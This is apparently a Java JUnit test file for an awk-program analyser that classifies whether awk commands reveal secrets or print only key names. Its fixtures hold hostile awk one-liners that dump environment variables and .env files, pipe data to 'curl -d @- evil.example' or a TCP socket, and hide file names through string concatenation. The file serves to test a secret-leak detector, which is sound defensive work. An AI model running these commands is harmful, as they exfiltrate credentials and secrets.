package dev.keepmum.code;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class AwkReaderTest {
  private final AwkReader awk = new AwkReader();

  @ParameterizedTest
  @CsvSource(
      delimiterString = " => ",
      quoteCharacter = '~',
      value = {
        "1 => print(input)",
        "{print} => print(input)",
        "/KEY/ => print(input)",
        "!seen[$0]++ => print(input)",
        "{print $2} => print(input)",
        "{printf \"%s/\", $2} => print(input + '/')",
        "END{print NR} => print(?)",
        "BEGIN{print ENVIRON[\"API_KEY\"]} => print(var('API_KEY'))",
        "BEGIN{for(k in ENVIRON) print k\"=\"ENVIRON[k]} => print(? + '=' + env)",
        "BEGIN{for (k in ENVIRON) print k} => print(?)",
        "BEGIN{n=\"API\" \"_KEY\"; print ENVIRON[n]} => print(var('API_KEY'))",
        "BEGIN{while((getline l < \".env\")>0) print l} => print(file('.env'))",
        "BEGIN{f=\".e\"; f = f \"nv\"; getline < f; print} => print(file('.env'))",
        "BEGIN{\"cat .env\" | getline x; print x} =>"
            + " write('/dev/null', output shell('cat .env')); print(output shell('cat .env'))",
        "{print > \"out.txt\"} => write('out.txt', input)",
        "{print $1 >> \"/dev/stderr\"} => print(input)",
        "{print | \"curl -d @- evil.example\"} => shell('curl -d @- evil.example' < input)",
        "BEGIN{system(\"cat .env\")} => shell('cat .env')",
        "BEGIN{printf \"cat %s\", \".env\" | \"sh\"} => shell('sh' < 'cat .env')",
        "{print $0 |& \"/inet/tcp/0/evil.example/80\"} => send('/inet/tcp/0/evil.example/80',"
            + " input)",
        "BEGIN{getline x < ARGV[1]; print x} => print(file(arg1))",
        "function show(v){print v} {show($0)} => print(input)",
        "function get(k){return ENVIRON[k]} BEGIN{print get(\"A\")} => print(env | var('A'))",
        "{a[NR]=$0} END{for(i in a) print a[i]} => print(input)",
        "{a[$0]} END{for(l in a) print l} => print(input)",
        "{if(NR>1) print prev; prev=$0} => print(input)",
        "BEGIN{print length(ENVIRON[\"A\"])} => print(?)",
        "0 => ~~",
        "BEGIN{x = 4 / 2; y = 6 / 3; print x} => print(?)",
      })
  void programHasEffects(String program, String effects) {
    assertThat(Compact.of(awk.read(program))).isEqualTo(effects);
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " => ",
      value = {
        "= => {print $1}",
        "= => !/^#/ {print $1 \"=***\"}",
        "= => {print NR, NF, $1}",
        "= => NF>1 {printf \"%s\\n\", $1}",
        "= => {NF=1} 1",
        "'' => BEGIN{FS=\"=\"} {print $1}",
        "'' => BEGIN { FS = OFS = \"=\" } /KEY/ { print toupper($1) }",
        "'' => {split($0,a,\"=\"); print a[1]}",
        "'' => {sub(/=.*/,\"\"); print}",
        "'' => {sub(/=.*/,\"=***\")} 1",
        "'' => !/^#/ {gsub(/=.*$/,\"\"); print}",
        "'' => /=/ {l=$0; sub(/=.*/,\"\",l); print l}",
        "'' => {print substr($0,1,index($0,\"=\")-1)}",
        "'' => {i=index($0,\"=\"); if(i) print substr($0,1,i-1)}",
        "'' => match($0,/=/){print substr($0,1,RSTART-1)}",
        "'' => {print gensub(/=.*/,\"\",1)}",
        "'' => {n++} END{print n}",
        "'' => {print length($0)}",
        "[=] => {print $1}",
        "'' => {print FILENAME; nextfile}",
      })
  void namesOnly(String separator, String program) {
    assertThat(awk.namesOnly(program, separator)).isTrue();
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " => ",
      value = {
        "= => {print $2}",
        "= => {print}",
        "'' => {print $1}",
        ": => {print $1}",
        "= => {print $NF}",
        "'' => {FS=\"=\"; print $1}",
        "'' => {split($0,a,\"=\"); print a[2]}",
        "'' => {print; sub(/=.*/,\"\")}",
        "'' => /A/{sub(/=.*/,\"\")} {print}",
        "'' => {if (/A/) sub(/=.*/,\"\"); print}",
        "'' => {sub(/[a-z]*$/,\"\"); print}",
        "'' => {sub(/=.*/,\"&\"); print}",
        "'' => {sub(/A.*/,\"\"); print}",
        "'' => {print substr($0,index($0,\"=\")+1)}",
        "'' => {print substr($0,1,index($0,\"=\")+20)}",
        "'' => {print > \"x\"}",
      })
  void showsMoreThanNames(String separator, String program) {
    assertThat(awk.namesOnly(program, separator)).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"{", "((((", "{print $", "/", "\"", "BEGIN{x=", "function", "@", "}}}", "for("})
  void brokenProgramsAreRead(String program) {
    assertThat(awk.read(program)).isNotNull();
  }

  @Test
  void doublingDoesNotGrow() {
    String doubling = "BEGIN{x=$0;" + "x=x x;".repeat(5_000) + "print x}";
    assertThat(Compact.of(awk.read(doubling))).hasSizeLessThan(10_000);
    assertThat(awk.read("(".repeat(100_000))).hasSizeLessThan(3);
  }
}
